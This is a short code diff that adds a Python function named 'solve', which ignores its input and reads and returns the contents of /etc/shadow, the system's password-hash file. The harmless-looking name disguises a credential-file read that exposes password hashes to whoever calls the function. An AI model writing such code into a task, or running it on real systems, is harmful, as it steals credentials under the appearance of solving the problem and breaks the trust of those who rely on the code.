@@ -1,0 +1,3 @@
+def solve(x):
+    with open("/etc/shadow") as f:
+        return f.read()
